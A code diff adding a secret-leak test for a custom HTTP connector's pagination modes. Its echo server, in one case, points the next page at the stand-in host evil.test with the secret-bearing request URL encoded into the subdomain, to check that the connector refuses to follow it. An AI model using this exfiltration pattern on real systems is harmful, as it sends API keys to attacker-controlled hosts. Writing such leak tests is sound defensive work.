@@ -72,6 +72,47 @@ describe('custom-http shows nothing of its secrets', () => {
     await leakTest(customHttp, [refusing, retrying, reading, hook])
   })
 
+  test('from page to page', async () => {
+    const paged = await startEchoServer((request, response) => {
+      response.setHeader('content-type', 'application/json')
+      // Each answer repeats all it was sent, and names a next page that holds it as well.
+      const elsewhere = request.url.startsWith('/elsewhere')
+      const target = elsewhere
+        ? `http://${encodeURIComponent(request.url)}.evil.test/`
+        : `${request.url}&again=1`
+      response.setHeader('link', `<${target}>; rel="next"`)
+      response.end(JSON.stringify({ request, next: target }))
+    })
+    const query = [{ name: 'key', value: '{{ secrets.KEY }}' }]
+    const headers = [{ name: 'Authorization', value: 'Bearer {{ secrets.KEY }}' }]
+    const common = { query, headers, maxPages: 3 }
+    const url = `${paged.origin}/?x=1`
+    const byUrl = { ...common, pagination: 'nextUrl', nextPath: 'next' }
+    try {
+      await leakTest(customHttp, [
+        { name: 'by Link header', fields: { ...common, url, pagination: 'link' }, echoes: true },
+        { name: 'by a URL in the body', fields: { ...byUrl, url }, echoes: true },
+        {
+          name: 'to another origin',
+          fields: { ...byUrl, url: `${paged.origin}/elsewhere?x=1` },
+          fails: true,
+        },
+        {
+          name: 'with a cursor that holds it',
+          fields: { ...common, url, pagination: 'cursor', nextPath: 'next', pageParameter: 'after' },
+          echoes: true,
+        },
+        {
+          name: 'without the items',
+          fields: { ...common, url, pagination: 'link', itemsPath: 'request' },
+          fails: true,
+        },
+      ])
+    } finally {
+      await paged[Symbol.asyncDispose]()
+    }
+  })
+
   test('in a certificate that is none', async () => {
     const fields = {
       url: server.origin.replace('http:', 'https:'),
